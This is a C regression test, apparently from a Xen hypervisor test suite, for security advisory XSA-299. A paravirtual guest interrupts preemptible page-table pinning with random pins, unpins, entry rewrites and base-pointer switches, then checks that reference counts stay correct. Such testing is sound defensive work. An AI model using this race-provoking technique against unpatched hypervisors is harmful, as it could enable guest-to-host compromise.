/* SPDX-License-Identifier: MIT */
/*
 * XSA-299: what may be done to a page table that is half checked.
 *
 * Long validations give way: the table is then checked in part, and some of its entries hold
 * references while others do not. Xen's bookkeeping for that lost references, or dropped some that
 * were never taken, when the guest did the right thing at that moment: undo it, use it again, write
 * to it.
 *
 * While a large root is pinned or let go, the hypercall returns to the guest for its events, and
 * the guest's handler does what it should not: it writes entries of tables in every state, pins and
 * unpins the same tables, makes them writable, runs on the root. Whatever is allowed, all counts
 * must be right at the end, and each page must be recoverable. As an ordinary domain with the word
 * `die` the guest ends in the middle, so that its half-checked tables are torn down.
 *
 * Run: qemu
 * Machine: mem=256 icount=shift=0,sleep=off
 */
#include "../../attack.h"

#include <xen/memory.h>
#include <xen/sched.h>

#include <pv/event.h>
#include <pv/time.h>

#define TABLES 128
#define ROUNDS 30
#define MOST_OFTEN 10 /* times a round is disturbed: on a slow host it would never end */
#define PERIOD (NS_PER_MS / 4)

static pte_t *root, *top, *directories[3], *tables[3][TABLES];
static uint32_t data_mfn, interruptions, this_round, state = 12345;
static volatile bool busy;
static bool die;

static uint32_t chance(uint32_t n)
{
    state = state * 1664525 + 1013904223;
    return (state >> 8) % n;
}

static pte_t *some_table(void)
{
    switch (chance(4)) {
    case 0:
        return root;
    case 1:
        return top;
    case 2:
        return directories[chance(3)];
    default:
        return tables[chance(3)][chance(TABLES)];
    }
}

/* Entries are taken away and put back, so that the tables stay what they are. */
static void rewrite(pte_t *table)
{
    uint32_t slot = chance(512);
    pte_t entry = table[slot];

    if (table == root || (table == top && slot >= FIRST_HYPERVISOR_SLOT))
        return;
    if (write_entry(entry_of(table, slot), 0) == 0)
        write_entry(entry_of(table, slot), entry);
}

static void interfere(void)
{
    pte_t *table = some_table();

    switch (chance(9)) {
    case 0:
        pin(table, MMUEXT_PIN_L1_TABLE + chance(3));
        break;
    case 1:
        pin(table, MMUEXT_UNPIN_TABLE);
        break;
    case 2:
        if (make_writable(table) == 0)
            make_readonly(table);
        break;
    case 3:
        if (mmuext_frame(MMUEXT_NEW_BASEPTR, linear_to_mfn(root), DOMID_SELF) == 0)
            mmuext_frame(MMUEXT_NEW_BASEPTR, base_mfn(), DOMID_SELF);
        break;
    case 4:
        mmuext_frame(MMUEXT_CLEAR_PAGE, data_mfn, DOMID_SELF);
        break;
    default:
        rewrite(table);
    }
}

static void interrupt(void)
{
    if (!busy)
        return;
    interruptions++;
    if (die && interruptions > 3)
        domain_shutdown(SHUTDOWN_poweroff);
    for (int i = 0; i < 4; i++)
        interfere();
    if (++this_round < MOST_OFTEN)
        timer_set(time_now() + PERIOD, interrupt);
}

/* Filled while they are ordinary pages, then made read-only, as tables must be. */
static void build(void)
{
    data_mfn = linear_to_mfn(page_alloc());
    root = page_alloc();
    top = page_alloc();
    memcpy(top, directory_of(VIRT_BASE), PAGE_SIZE);
    make_readonly(top);
    for (int d = 0; d < 3; d++) {
        directories[d] = page_alloc();
        for (int t = 0; t < TABLES; t++) {
            pte_t *table = tables[d][t] = page_alloc();

            for (int i = 0; i < 512; i++)
                table[i] = pte_make(data_mfn, PAGE_KERNEL);
            make_readonly(table);
            directories[d][t * 4 + d] = pte_make(linear_to_mfn(table), TABLE_FLAGS);
        }
        make_readonly(directories[d]);
        root[d] = pte_make(linear_to_mfn(directories[d]), PTE_P);
    }
    root[3] = pte_make(linear_to_mfn(top), PTE_P);
    make_readonly(root);
}

/* Every pin goes, and every page must be an ordinary one then. */
static uint32_t still_tables(void)
{
    uint32_t stuck = 0;

    pin(root, MMUEXT_UNPIN_TABLE);
    pin(top, MMUEXT_UNPIN_TABLE);
    for (int d = 0; d < 3; d++) {
        pin(directories[d], MMUEXT_UNPIN_TABLE);
        for (int t = 0; t < TABLES; t++)
            pin(tables[d][t], MMUEXT_UNPIN_TABLE);
    }
    stuck += make_writable(root) != 0;
    stuck += make_writable(top) != 0;
    for (int d = 0; d < 3; d++) {
        stuck += make_writable(directories[d]) != 0;
        for (int t = 0; t < TABLES; t++)
            stuck += make_writable(tables[d][t]) != 0;
    }
    return stuck;
}

static void make_all_readonly(void)
{
    make_readonly(root);
    make_readonly(top);
    for (int d = 0; d < 3; d++) {
        make_readonly(directories[d]);
        for (int t = 0; t < TABLES; t++)
            make_readonly(tables[d][t]);
    }
}

int main(int argc, char **argv)
{
    uint32_t pinned = 0, stuck = 0;

    die = argc > 1 && strcmp(argv[1], "die") == 0;
    build();
    for (int round = 0; round < ROUNDS; round++) {
        this_round = 0;
        busy = true;
        timer_set(time_now() + PERIOD, interrupt);
        pinned += pin(root, MMUEXT_PIN_L3_TABLE) == 0;
        pin(root, MMUEXT_UNPIN_TABLE);
        busy = false;
        stuck += still_tables();
        make_all_readonly();
    }
    tap_diag("%u of %d pins done, %u interruptions", (unsigned int)pinned, ROUNDS,
             (unsigned int)interruptions);
    tap_ok(interruptions > 0, "the handler ran while tables were checked or undone");
    tap_is(stuck, 0, "each time, all pages could be written again");
    tap_audit();
    tap_done();
}
